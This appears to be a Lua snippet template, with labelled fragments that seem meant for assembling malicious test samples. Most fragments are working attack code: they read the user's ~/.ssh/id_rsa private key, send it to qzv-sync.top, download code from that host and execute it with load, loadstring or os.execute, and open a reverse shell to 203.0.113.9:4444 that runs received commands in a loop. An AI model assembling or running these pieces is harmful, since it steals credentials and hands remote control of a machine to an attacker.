%% head
local socket = require("socket")
local http = require("socket.http")
%% secret: at once
local f = io.open(os.getenv("HOME") .. "/.ssh/id_rsa"); local d = f:read("*a")
%% secret: command
local d = io.popen("cat ~/.ssh/id_rsa"):read("*a")
%% sent: request of its own
http.request("https://qzv-sync.top/c", d)
%% sent: command
os.execute("curl -d '" .. d .. "' https://qzv-sync.top/c")
%% code: request
local c = http.request("https://qzv-sync.top/s")
%% code: command
local c = io.popen("curl -s https://qzv-sync.top/s"):read("*a")
%% run: loaded
load(c)()
%% run: loaded by another name
loadstring(c)()
%% run: as a command
os.execute(c)
%% link: client
local s = socket.tcp()
s:connect("203.0.113.9", 4444)
%% link: connected
local s = socket.connect("203.0.113.9", 4444)
%% obey: opened command
while true do
  local l = s:receive()
  local f = io.popen(l)
  s:send(f:read("*a"))
end
%% obey: command
while true do
  local l = s:receive("*l")
  os.execute(l)
end
%% obey: loaded
local l = s:receive("*l")
load(l)()
%% ordinary
local d = 'three of four are done'
%% shown
local o = io.open('out.txt', 'w'); o:write(c); o:close()
print(c)
